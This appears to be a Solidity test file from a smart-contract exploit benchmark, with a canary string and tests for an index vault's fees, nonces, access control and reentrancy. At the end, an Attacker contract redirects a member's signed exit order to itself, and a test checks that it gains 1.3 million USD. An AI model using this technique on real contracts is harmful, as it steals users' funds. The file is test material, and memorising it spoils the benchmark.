// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./IndexVault.sol";

// assay-canary-c1a3c419-ad01-42d2-9bbe-9d21d53ba53f

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    address private minter = msg.sender;
    uint8 private immutable places;

    constructor(string memory name, uint8 p) ERC20(name, name) {
        places = p;
    }

    function decimals() public view override returns (uint8) {
        return places;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// Keeps one unit of every payment, when told to.
contract TaxToken is ERC20 {
    bool public tax;

    constructor() ERC20("Tax", "TAX") {
        _mint(msg.sender, 1_000e18);
    }

    function set(bool on) external {
        tax = on;
    }

    function _update(address from, address to, uint256 a) internal override {
        super._update(from, to, a);
        if (tax && from != address(0)) super._update(to, address(0xFEE), 1);
    }
}

/// Calls back in the middle of a payment, and passes on what the answer is. Calls others for its maker.
contract HookToken is ERC20 {
    address private maker = msg.sender;
    address private to_;
    bytes private data_;

    constructor() ERC20("Hook", "HOOK") {
        _mint(address(this), 1_000e18);
    }

    function arm(address to, bytes calldata data) external {
        require(msg.sender == maker, "maker only");
        (to_, data_) = (to, data);
    }

    function exec(address to, bytes calldata data) external {
        require(msg.sender == maker, "maker only");
        _do(to, data);
    }

    function _do(address to, bytes memory data) private {
        (bool ok, bytes memory out) = to.call(data);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
    }

    function _update(address from, address to, uint256 a) internal override {
        super._update(from, to, a);
        address x = to_;
        if (x == address(0)) return;
        to_ = address(0);
        _do(x, data_);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0xF0EAAE1;
    address internal constant FRIEND = address(0xF41E4D);
    address internal constant TREASURY = address(0x7EA);
    uint256 internal constant START = 1_776_900_000;

    Token internal usd;
    Token internal gold;
    IndexVault internal vault;
    Attacker internal mallory;
    address internal member;

    /// Signed, sent to an executor, and seen by everyone.
    bytes internal pending;
    bytes internal signature;

    function setUp() public {
        vm.warp(START);
        usd = new Token("USD", 6);
        gold = new Token("GOLD", 18);
        member = vm.addr(KEY);
        IERC20[] memory t = new IERC20[](2);
        (t[0], t[1]) = (usd, gold);
        vault = new IndexVault(t, address(this), TREASURY);
        usd.mint(address(this), 1_000_000e6);
        gold.mint(address(this), 100e18);
        usd.approve(address(vault), type(uint256).max);
        gold.approve(address(vault), type(uint256).max);
        vault.start(1_000_000e18, _two(1_000_000e6, 100e18));

        usd.mint(member, 1_600_000e6);
        gold.mint(member, 160e18);
        vm.startPrank(member);
        usd.approve(address(vault), type(uint256).max);
        gold.approve(address(vault), type(uint256).max);
        vault.enter(1_500_000e18, _two(1_500_000e6, 150e18));
        vm.stopPrank();

        IndexVault.Exit memory x = _exit(1, 1_300_000e18, member);
        signature = _sign(vault.exitHash(x));
        pending = abi.encode(x);
        mallory = new Attacker(vault);
    }

    function _two(uint256 a, uint256 b) internal pure returns (uint256[] memory r) {
        r = new uint256[](2);
        (r[0], r[1]) = (a, b);
    }

    function _sign(bytes32 digest) internal returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, digest);
        return abi.encodePacked(r, s, v);
    }

    function _exit(uint256 nonce, uint256 shares, address to) internal view returns (IndexVault.Exit memory x) {
        x.owner = member;
        x.shares = shares;
        x.tip = 1e18;
        x.nonce = nonce;
        x.deadline = START + 1 hours;
        x.legs = new IndexVault.Leg[](2);
        x.legs[0] = IndexVault.Leg(0, shares / 1e12, to);
        x.legs[1] = IndexVault.Leg(1, 0, to);
    }

    function _entry(uint256 nonce, uint256 shares) internal view returns (IndexVault.Entry memory x) {
        x.owner = member;
        x.shares = shares;
        x.tip = 2e18;
        x.nonce = nonce;
        x.deadline = START + 1 hours;
        x.most = _two(shares / 1e12, shares / 1e4);
    }

    function test_Regular() public {
        IndexVault.Exit memory x = _exit(2, 100_000e18, FRIEND);
        bytes memory g = _sign(vault.exitHash(x));
        vm.prank(FRIEND);
        vault.leaveFor(x, g);
        require(usd.balanceOf(FRIEND) == 100_000e6 && gold.balanceOf(FRIEND) == 10e18, "paid");
        require(vault.balanceOf(FRIEND) == 1e18 && vault.used(member, 2), "tip");

        x.legs[0].least = 0;
        vm.prank(FRIEND);
        vault.leave(1e18, x.legs);
        require(usd.balanceOf(FRIEND) == 100_001e6 && vault.balanceOf(FRIEND) == 0, "own shares");
        vm.prank(member);
        vault.drop(1);
        require(vault.used(member, 1), "dropped");

        IndexVault.Entry memory y = _entry(300, 50_000e18);
        g = _sign(vault.entryHash(y));
        uint256 before = usd.balanceOf(member);
        vm.prank(FRIEND);
        vault.enterFor(y, g);
        require(usd.balanceOf(member) == before - 50_000e6 && vault.balanceOf(FRIEND) == 2e18, "entered");
        require(vault.balanceOf(member) == 1_449_997e18, "shares");

        vm.prank(FRIEND);
        vault.approve(member, 1e18);
        vm.prank(member);
        vault.transferFrom(FRIEND, member, 1e18);
        vm.prank(member);
        vault.transfer(FRIEND, 1e18);
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, member, FRIEND, 5e18, 0, START));
        (uint8 v, bytes32 r, bytes32 s) =
            vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", vault.DOMAIN_SEPARATOR(), hash)));
        vault.permit(member, FRIEND, 5e18, START, v, r, s);
        require(vault.allowance(member, FRIEND) == 5e18, "permit");

        fees();
    }

    function fees() private {
        vault.setFees(100, 200);
        uint256 n = vault.totalSupply();
        vm.warp(START + 365 days);
        uint256[] memory q = vault.quoteEnter(1_000e18);
        require(q[0] < 1_000e6 && q[0] > 980e6, "diluted");
        vm.prank(member);
        vault.enter(1_000e18, q);
        require(vault.balanceOf(TREASURY) == n / 50, "a year");
        vm.warp(START + 366 days);
        vault.accrue();
        vault.setTreasury(address(0x7EB));
        require(vault.balanceOf(TREASURY) > n / 50, "a day");
        q = vault.quoteLeave(1_000e18);
        IndexVault.Leg[] memory legs = new IndexVault.Leg[](1);
        legs[0] = IndexVault.Leg(1, q[1], address(0xF2));
        vm.prank(member);
        vault.leave(1_000e18, legs);
        require(gold.balanceOf(address(0xF2)) == q[1] && vault.balanceOf(address(0x7EB)) == 10e18, "fee");

        gold.mint(address(vault), 7e18);
        require(vault.spare(1) == 7e18 && vault.count() == 2, "too much");
        vault.skim(1, TREASURY);
        require(gold.balanceOf(TREASURY) == 7e18 && gold.balanceOf(address(vault)) == vault.held(1), "skimmed");
        vault.pause();
        vault.unpause();
        vault.transferOwnership(FRIEND);
        vm.startPrank(FRIEND);
        vault.acceptOwnership();
        vault.renounceOwnership();
        vm.stopPrank();
        require(vault.owner() == address(0), "renounced");
    }

    function foreign() internal {
        vm.prank(FRIEND);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, FRIEND));
    }

    function test_RefusesStrangers() public {
        foreign();
        vault.start(1e18, _two(1, 1));
        foreign();
        vault.skim(0, FRIEND);
        foreign();
        vault.pause();
        foreign();
        vault.unpause();
        foreign();
        vault.setFees(0, 0);
        foreign();
        vault.setTreasury(FRIEND);
        foreign();
        vault.transferOwnership(FRIEND);
        foreign();
        vault.acceptOwnership();
        foreign();
        vault.renounceOwnership();
    }

    function test_RefusesOrdersThatHaveRunOut() public {
        vm.warp(START + 1 hours + 1);
        vm.expectRevert(IndexVault.Expired.selector);
        vault.leaveFor(abi.decode(pending, (IndexVault.Exit)), signature);
        IndexVault.Entry memory y = _entry(3, 1e18);
        bytes memory g = _sign(vault.entryHash(y));
        vm.expectRevert(IndexVault.Expired.selector);
        vault.enterFor(y, g);
    }

    function test_RefusesOrdersThatNobodySigned() public {
        IndexVault.Exit memory x = abi.decode(pending, (IndexVault.Exit));
        vm.expectRevert(abi.encodeWithSelector(ECDSA.ECDSAInvalidSignatureLength.selector, 0));
        vault.leaveFor(x, "");
        x.shares -= 1;
        vm.expectRevert(IndexVault.NotSigned.selector);
        vault.leaveFor(x, signature);
        x.shares += 1;
        x.legs[0].least -= 1;
        vm.expectRevert(IndexVault.NotSigned.selector);
        vault.leaveFor(x, signature);
        IndexVault.Entry memory y = _entry(3, 1e18);
        bytes memory g = _sign(vault.entryHash(y));
        y.most[0] += 1;
        vm.expectRevert(IndexVault.NotSigned.selector);
        vault.enterFor(y, g);
        y.most[0] -= 1;
        y.tip -= 1;
        vm.expectRevert(IndexVault.NotSigned.selector);
        vault.enterFor(y, g);
    }

    function test_RefusesOrdersTwice() public {
        IndexVault.Exit memory x = _exit(3, 1_000e18, FRIEND);
        bytes memory g = _sign(vault.exitHash(x));
        vault.leaveFor(x, g);
        vm.expectRevert(NonceMap.UsedNonce.selector);
        vault.leaveFor(x, g);
        vm.prank(member);
        vault.drop(1);
        vm.expectRevert(NonceMap.UsedNonce.selector);
        vault.leaveFor(abi.decode(pending, (IndexVault.Exit)), signature);
        vm.prank(member);
        vm.expectRevert(NonceMap.UsedNonce.selector);
        vault.drop(1);
        IndexVault.Entry memory y = _entry(4, 1_000e18);
        g = _sign(vault.entryHash(y));
        vault.enterFor(y, g);
        vm.expectRevert(NonceMap.UsedNonce.selector);
        vault.enterFor(y, g);
    }

    function test_RefusesLegsThatDoNotFit() public {
        IndexVault.Leg[] memory legs = new IndexVault.Leg[](1);
        legs[0] = IndexVault.Leg(2, 0, member);
        _refused(legs, IndexVault.BadLeg.selector);
        legs[0] = IndexVault.Leg(0, 0, address(vault));
        _refused(legs, IndexVault.BadLeg.selector);
        legs[0] = IndexVault.Leg(0, 1e6 + 1, member);
        _refused(legs, IndexVault.Slipped.selector);

        legs = new IndexVault.Leg[](2);
        legs[0] = legs[1] = IndexVault.Leg(1, 0, member);
        _refused(legs, IndexVault.BadLeg.selector);
        legs[1] = IndexVault.Leg(0, 0, member);
        _refused(legs, IndexVault.BadLeg.selector);
        vm.prank(FRIEND);
        vm.expectRevert();
        vault.leave(1, legs);
    }

    function _refused(IndexVault.Leg[] memory legs, bytes4 reason) internal {
        vm.prank(member);
        vm.expectRevert(reason);
        vault.leave(1e18, legs);
    }

    function test_RefusesEntries() public {
        vm.startPrank(member);
        vm.expectRevert(IndexVault.TooFew.selector);
        vault.enter(0, _two(0, 0));
        vm.expectRevert(IndexVault.BadLength.selector);
        vault.enter(1e18, new uint256[](1));
        vm.expectRevert(IndexVault.Slipped.selector);
        vault.enter(1e18, _two(1e6 - 1, 1e14));
        vm.expectRevert(IndexVault.Slipped.selector);
        vault.enter(1e18, _two(1e6, 1e14 - 1));
        vm.stopPrank();
        vault.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.pause();
        vm.prank(member);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.enter(1e18, _two(1e6, 1e14));
        IndexVault.Entry memory y = _entry(3, 1e18);
        bytes memory g = _sign(vault.entryHash(y));
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.enterFor(y, g);
        vault.leaveFor(abi.decode(pending, (IndexVault.Exit)), signature);
        vault.unpause();
        vm.expectRevert(Pausable.ExpectedPause.selector);
        vault.unpause();
    }

    function test_RefusesSetups() public {
        IERC20[] memory t = new IERC20[](2);
        (t[0], t[1]) = (usd, usd);
        vm.expectRevert(Pot.BadAsset.selector);
        new IndexVault(t, address(this), TREASURY);
        t[1] = IERC20(FRIEND);
        vm.expectRevert(Pot.BadAsset.selector);
        new IndexVault(t, address(this), TREASURY);
        vm.expectRevert(Pot.BadAsset.selector);
        new IndexVault(new IERC20[](0), address(this), TREASURY);
        IERC20[] memory many = new IERC20[](13);
        for (uint256 i; i < 13; ++i) many[i] = new Token("MANY", 18);
        vm.expectRevert(Pot.BadAsset.selector);
        new IndexVault(many, address(this), TREASURY);
        t[1] = gold;
        vm.expectRevert(Fees.BadTreasury.selector);
        new IndexVault(t, address(this), address(0));
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableInvalidOwner.selector, address(0)));
        new IndexVault(t, address(0), TREASURY);
        vm.expectRevert(Fees.BadTreasury.selector);
        vault.setTreasury(address(0));
        vm.expectRevert(Fees.BadTreasury.selector);
        vault.setTreasury(address(vault));
        vm.expectRevert(Fees.BadFee.selector);
        vault.setFees(101, 0);
        vm.expectRevert(Fees.BadFee.selector);
        vault.setFees(0, 201);
    }

    function test_RefusesStarts() public {
        vm.expectRevert(IndexVault.WasStarted.selector);
        vault.start(1e18, _two(1e6, 1e14));
        IERC20[] memory t = new IERC20[](2);
        (t[0], t[1]) = (usd, gold);
        IndexVault other = new IndexVault(t, address(this), TREASURY);
        usd.mint(address(this), 10e6);
        gold.mint(address(this), 10e18);
        usd.approve(address(other), 10e6);
        gold.approve(address(other), 10e18);
        vm.expectRevert(IndexVault.TooFew.selector);
        other.start(1e18 - 1, _two(1e6, 1e14));
        vm.expectRevert(IndexVault.TooFew.selector);
        other.start(1e18, _two(1e6, 0));
        vm.expectRevert(IndexVault.BadLength.selector);
        other.start(1e18, new uint256[](1));
        vm.expectRevert(Pausable.EnforcedPause.selector);
        other.enter(1e18, _two(1e6, 1e14));
        other.start(1e18, _two(1e6, 1e14));
        require(other.balanceOf(address(this)) == 1e18 - 1e6, "started");
    }

    function test_RefusesWhatAnAssetTakes() public {
        TaxToken tax = new TaxToken();
        IERC20[] memory t = new IERC20[](1);
        t[0] = tax;
        IndexVault other = new IndexVault(t, address(this), TREASURY);
        tax.approve(address(other), 1_000e18);
        uint256[] memory a = new uint256[](1);
        a[0] = 10e18;
        tax.set(true);
        vm.expectRevert(Pot.BadAsset.selector);
        other.start(1e18, a);
        tax.set(false);
        other.start(1e18, a);
        tax.set(true);
        vm.expectRevert(Pot.BadAsset.selector);
        other.enter(1e18, a);
    }

    function test_RefusesCallsWithinCalls() public {
        HookToken hook = new HookToken();
        IERC20[] memory t = new IERC20[](1);
        t[0] = hook;
        IndexVault other = new IndexVault(t, address(hook), TREASURY);
        hook.exec(address(hook), abi.encodeCall(hook.approve, (address(other), type(uint256).max)));
        hook.exec(address(hook), abi.encodeCall(hook.transfer, (member, 100e18)));
        vm.prank(member);
        hook.approve(address(other), type(uint256).max);
        uint256[] memory a = new uint256[](1);
        a[0] = 10e18;
        within(hook, other, abi.encodeCall(other.start, (1e18, a)));
        hook.exec(address(other), abi.encodeCall(other.start, (10e18, a)));
        within(hook, other, abi.encodeCall(other.enter, (1e18, a)));
        IndexVault.Leg[] memory legs = new IndexVault.Leg[](1);
        legs[0] = IndexVault.Leg(0, 0, address(hook));
        within(hook, other, abi.encodeCall(other.leave, (1e18, legs)));
        IndexVault.Entry memory y = _entry(3, 3e18);
        y.most = a;
        bytes memory g = _sign(other.entryHash(y));
        within(hook, other, abi.encodeCall(other.enterFor, (y, g)));
        other.enterFor(y, g);
        IndexVault.Exit memory x = _exit(4, 1e18, FRIEND);
        x.tip = 0;
        x.legs = legs;
        g = _sign(other.exitHash(x));
        within(hook, other, abi.encodeCall(other.leaveFor, (x, g)));
        hook.exec(address(hook), abi.encodeCall(hook.transfer, (address(other), 1e18)));
        within(hook, other, abi.encodeCall(other.skim, (0, FRIEND)));
    }

    function within(HookToken hook, IndexVault other, bytes memory data) private {
        hook.arm(address(other), data);
        vm.expectRevert(ReentrancyGuard.ReentrancyGuardReentrantCall.selector);
        hook.exec(address(other), data);
        hook.arm(address(0), "");
    }

    function exploit() public {
        mallory.run(abi.decode(pending, (IndexVault.Exit)), signature);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(mallory));
        exploit();
        require(usd.balanceOf(address(mallory)) >= before + 1_300_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Executes the order of another with itself as payee.
contract Attacker {
    IndexVault internal vault;

    constructor(IndexVault v) {
        vault = v;
    }

    function run(IndexVault.Exit memory x, bytes memory g) external {
        for (uint256 i = 0; i < x.legs.length; i++) {
            x.legs[i].to = address(this);
        }
        vault.leaveFor(x, g);
    }
}
